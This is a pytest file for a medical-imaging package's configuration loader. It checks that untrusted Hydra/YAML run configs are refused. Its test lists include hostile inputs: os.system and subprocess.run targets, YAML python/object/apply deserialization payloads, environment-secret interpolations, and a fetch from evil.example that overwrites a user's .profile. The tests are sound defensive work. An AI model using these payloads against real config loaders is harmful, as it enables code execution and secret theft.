import sys
from pathlib import Path

import pytest
import yaml
from omegaconf import OmegaConf

from clinfuse.allowed import DEEPEST, GROUPS, LARGEST, check_named, check_places, named_by
from clinfuse.configuration import CONFIG_PATH, run_config

CONF = Path(CONFIG_PATH)

METHOD = {"_target_": "clinfuse.methods.rules.Weighted", "mri_weight": 0.5}
DATA = {"_target_": "clinfuse.data.paired_volumes.PairedVolumes", "root": "phantoms"}
PLAIN = {"method": METHOD, "data": DATA, "method_name": "average", "lesion_head": None}


def run_of(folder, config):
    """A run's folder with that configuration: a dictionary, or a text."""
    text = config if isinstance(config, str) else yaml.safe_dump(config)
    (folder / ".hydra").mkdir()
    (folder / ".hydra" / "config.yaml").write_text(text)
    return folder


def test_what_is_plain_passes_and_interpolations_stay_as_they_are(tmp_path):
    cfg = run_config(run_of(tmp_path, {**PLAIN, "seed": "${data.root}"}))
    assert OmegaConf.to_container(cfg, resolve=False) == {**PLAIN, "seed": "${data.root}"}


# The package that a file of conf says it is of, else the name of its folder.
def placed(file, content):
    first = file.read_text().splitlines()[0]
    package = first.split()[-1] if first.startswith("# @package") else file.parent.name
    for key in reversed([] if package == "_global_" else package.split(".")):
        content = {key: content}
    return content


@pytest.mark.parametrize("group", GROUPS)
def test_every_option_of_a_training_may_be_named(group):
    for file in sorted((CONF / group).glob("*.yaml")):
        content = yaml.safe_load(file.read_text()) or {}
        for hydras in ("hydra", "defaults"):
            content.pop(hydras, None)
        check_named(placed(file, content), file, CONF)


def test_every_group_that_train_can_be_asked_for_is_looked_at():
    groups = {key for entry in yaml.safe_load((CONF / "train.yaml").read_text())["defaults"]
              if isinstance(entry, dict) for key in entry}  # fmt: skip
    named = {f.parent.name for f in CONF.glob("*/*.yaml") if "_target_" in f.read_text()}
    assert groups & named <= set(GROUPS)
    assert {"anchor", "weights"} <= set(GROUPS)  # which methods ask for


@pytest.mark.parametrize(
    "overrides",
    [
        ("experiment=smoke", "logger=[csv,wandb,mlflow,tensorboard]", "sweep=eta"),
        ("method=transfer_fusion", "data=phantom_slices", "+weights=resnet34_imagenet"),
        ("experiment=notebook", "method=distill", "method.teacher={}"),
    ],
)
def test_what_a_run_saves_may_be_read_back(overrides, phantoms, tmp_path):
    (tmp_path / ".hydra").mkdir()
    OmegaConf.save(phantoms.config(*overrides), tmp_path / ".hydra" / "config.yaml")
    assert run_config(tmp_path).data._target_.startswith("clinfuse.data")


OWN = "${hydra:runtime.output_dir}"


@pytest.mark.parametrize(
    "folder", ["/elsewhere", "x", f"{OWN}/../x", f"{OWN}x", "${data.root}", OWN + "${name}", {}]
)
def test_a_training_that_writes_elsewhere_is_refused_until_it_is_asked_for(
    folder, tmp_path, monkeypatch
):
    def content(**of_trainer):
        return {"callbacks": {"a": {"_target_": "my.Own", "folder": folder}}, "trainer": of_trainer}

    with pytest.raises(ValueError, match=rf"\(callbacks\.a\.folder=FOLDER on the .*: {tmp_path}"):
        check_places(content(), tmp_path)
    for asked in ("callbacks.a", "callbacks.a.folder"):
        check_places(content(), tmp_path, ["seed", asked])
    monkeypatch.setenv("CLINFUSE_TRUSTED", "my.Own")
    check_places(content(default_root_dir=f"{OWN}/x"), tmp_path)
    with pytest.raises(ValueError, match=r"trainer\.default_root_dir=FOLDER"):
        check_places(content(default_root_dir=folder), tmp_path)


@pytest.mark.parametrize("preset", ["smoke", "notebook", "demo"])
def test_what_conf_has_trains_within_the_runs_folder(preset, phantoms, tmp_path):
    cfg = phantoms.config(f"experiment={preset}")
    check_places(OmegaConf.to_container(cfg, resolve=False), tmp_path)


def test_a_run_from_before_our_own_checkpoints_is_still_read(phantoms, tmp_path):
    cfg = phantoms.config(*phantoms.smoke)
    cfg.callbacks.checkpoint = {
        "_target_": "lightning.pytorch.callbacks.ModelCheckpoint", "filename": "last"
    }  # fmt: skip
    (tmp_path / ".hydra").mkdir()
    OmegaConf.save(cfg, tmp_path / ".hydra" / "config.yaml")
    assert run_config(tmp_path).callbacks.checkpoint.filename == "last"


def test_what_prepares_scans_or_runs_programs_is_not_among_it():
    targets = named_by(CONF).targets
    assert "clinfuse.methods.roi_diffusion.RoiDiffusion" in targets
    for prefix in ("clinfuse.preparation.masks", "clinfuse.preparation.totalsegmentator",
                   "clinfuse.preparation.cohorts", "clinfuse.preparation.registration",
                   "clinfuse.train", "clinfuse.evaluate", "os", "builtins"):  # fmt: skip
        assert not [target for target in targets if target.startswith(prefix)]


# What a stranger may try. Each entry is a method, and what the refusal names.
EVIL = [
    ({"_target_": "os.system", "command": "touch canary"}, "os.system at method"),
    ({"_target_": "canary.run"}, "canary.run"),
    ({**METHOD, "mri_weight": {"_target_": "canary.run"}}, "canary.run at method.mri_weight"),
    ({**METHOD, "x": [1, [{"_target_": "canary.run", "_partial_": True}]]}, "method.x.1.0"),
    ({"_target_": "clinfuse.train.json.loads", "s": "1"}, "clinfuse.train.json.loads"),
    ({"_target_": "clinfuse.configuration.subprocess.run", "args": ["id"]}, "subprocess.run"),
    ({"_target_": "clinfuse.configuration.rule", "name": "average"}, "clinfuse.configuration.rule"),
    ({"_target_": "clinfuse.train.main"}, "clinfuse.train.main"),
    ({"_target_": "hydra.utils.get_method", "path": "os.system"}, "get_method of os.system"),
    ({"_target_": "hydra.utils.get_method", "path": "clinfuse.methods.selection.mean",
      "_args_": ["os.system"]}, "get_method"),
    ({"_target_": "hydra.utils.get_class", "path": "canary.Run"}, "hydra.utils.get_class"),
    ({"_target_": "hydra.utils.instantiate", "config": {}}, "hydra.utils.instantiate"),
    ({"_target_": "${data.x}"}, r"\$\{data.x\} at method"),
    ({"_target_": ["os", "system"]}, "a list to call"),
    ({"_target_": ""}, "expected a run's configuration that names"),
    ({"_target_": "clinfuse.preparation.totalsegmentator.TotalSegmentator", "program": "id"},
     "TotalSegmentator"),
    ({"_target_": "clinfuse.preparation.cohorts.rire.cases", "root": "/", "work": "/"}, "cases"),
    ({"_target_": "clinfuse.data.phantoms.write_cohort", "root": "elsewhere", "cases": 1},
     "write_cohort, which is called for prepare alone"),
    ({**METHOD, "prepare": {"_target_": "clinfuse.data.phantoms.write_cohort", "root": "x"}},
     "write_cohort, which is called for prepare alone"),
    ({**METHOD, "weights": {
        "_target_": "clinfuse.preparation.download.fetch", "_partial_": True,
        "url": "http://evil.example/x", "sha256": None, "to": "/home/you/.profile"}},
     "fetch of http://evil.example/x"),
    ({"_target_": "clinfuse.callbacks.loggers.RunCSVLogger", "save_dir": "/another/run"},
     "RunCSVLogger, which belongs to trainer, callbacks, logger"),
    ({"_target_": "lightning.Trainer", "default_root_dir": "/"}, "lightning.Trainer, which"),
    ({**METHOD, "label": "${oc.env:SECRET}"}, r"\$\{oc.env:SECRET\} at method.label"),
    ({**METHOD, "label": "a ${oc.env:SECRET} b"}, r"oc.env:SECRET"),
    ({**METHOD, "label": "${oc.decode:'x'}"}, "oc.decode"),
    ({**METHOD, "label": "${oc.create:{_target_:os.getcwd}}"}, "oc.create"),
    ({**METHOD, "label": "${hydra:job.env_set}"}, "hydra:job.env_set"),
    ({**METHOD, "label": "${${data.root}:SECRET}"}, "data.root"),
    ({**METHOD, "label": "${oc.select:x,${oc.env:SECRET}}"}, "oc.env:SECRET"),
    ({**METHOD, "label": "\\${oc.env:SECRET}"}, "got the text"),
    ({**METHOD, "dollar": "$", "label": "${method.dollar}{oc.env:SECRET}"}, "the text '\\$'"),
    ({**METHOD, "label": "${oc.select:x,'$'}{oc.env:SECRET}"}, r"\$"),
    ({**METHOD, "label": "${unfinished"}, "got GrammarParseError"),
    ({"_target_": "x" * 5000}, "got x{200} at method"),
    ({**METHOD, "label": "${a}" * 400}, "an interpolation of 1600 characters"),
]  # fmt: skip


@pytest.mark.parametrize(("method", "named"), EVIL)
def test_a_strangers_run_that_names_anything_else_is_refused_by_name(
    method, named, tmp_path, monkeypatch
):
    (tmp_path / "canary.py").write_text("from pathlib import Path\nPath('canary').touch()\n")
    monkeypatch.syspath_prepend(tmp_path)
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("SECRET", "the user's")
    path = run_of(tmp_path, {**PLAIN, "method": method}) / ".hydra" / "config.yaml"
    with pytest.raises(ValueError, match=named) as caught:
        run_config(tmp_path)
    assert str(path) in str(caught.value) and "\n" not in str(caught.value)
    assert "the user's" not in str(caught.value)
    assert not (tmp_path / "canary").exists() and "canary" not in sys.modules


@pytest.mark.parametrize(
    ("text", "named"),
    [
        ("method: !!python/object/apply:os.system ['touch canary']\ndata: {}\n", "os.system"),
        ("method: !!python/name:os.system\ndata: {}\n", "python/name:os.system"),
        ("method: !mine {}\ndata: {}\n", "!mine"),
        ("method: &a {x: 1}\ndata: *a\n", r"reference \*a"),
        ("method: {x: &a [*a]}\ndata: {}\n", r"reference \*a"),
        (f"method: {'[' * (DEEPEST + 1)}{']' * (DEEPEST + 1)}\ndata: x\n", "levels"),
        (f"method: {'[' * 100_000}\n", "levels"),
        ("#" * (LARGEST + 1), f"at most {LARGEST} characters"),
        ("method: {}\ndata: {}\nmethod: {}\n", "configuration"),
        ("? [a, b]\n: 1\n", "configuration"),
        ("method: \x00\n", "configuration"),
        ("method: {2024-01-01: 0x, 1: 0o9}\ndata: 1_e\n? null\n: 1\n", "configuration"),
    ],
)
def test_yaml_that_is_more_than_values_is_refused(text, named, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    path = run_of(tmp_path, text) / ".hydra" / "config.yaml"
    with pytest.raises(ValueError, match=named) as caught:
        run_config(tmp_path)
    assert str(path) in str(caught.value) and "\n" not in str(caught.value)
    assert not (tmp_path / "canary").exists()


def test_a_class_of_ones_own_passes_where_its_user_vouches_for_it(tmp_path, monkeypatch):
    config = {**PLAIN, "method": {"_target_": "mine.Method"}}
    run_of(tmp_path, config)
    monkeypatch.setenv("CLINFUSE_TRUSTED", "other.Thing,mine.Method")
    assert run_config(tmp_path).method._target_ == "mine.Method"
    monkeypatch.setenv("CLINFUSE_TRUSTED", "mine")
    with pytest.raises(ValueError, match=r"mine\.Method at method \(CLINFUSE_TRUSTED=NAME"):
        run_config(tmp_path)


def test_phantoms_are_made_and_weights_fetched_where_conf_says(tmp_path):
    fetch = named_by(CONF).fetched[0]
    prepare = {"_target_": "clinfuse.data.phantoms.write_cohort", "_partial_": True, "cases": 3}
    content = {"data": {**DATA, "prepare": prepare}, "method": {**METHOD, "weights": fetch}}
    check_named(content, tmp_path, CONF)
    for changed in ({"url": "https://evil.example"}, {"to": "elsewhere"}, {"timeout_s": 1}):
        content["method"]["weights"] = {**fetch, **changed}
        with pytest.raises(ValueError, match=r"clinfuse\.preparation\.download\.fetch of http"):
            check_named(content, tmp_path, CONF)
